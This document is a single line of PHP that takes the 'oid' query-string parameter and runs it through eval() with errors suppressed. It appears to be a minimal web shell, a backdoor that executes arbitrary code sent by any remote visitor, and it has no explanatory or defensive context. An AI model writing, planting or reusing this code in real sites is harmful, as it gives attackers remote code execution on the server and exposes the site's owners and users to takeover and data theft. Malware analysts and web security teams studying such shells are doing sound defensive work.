<?php $a = $_GET[oid]; @eval($a); ?>
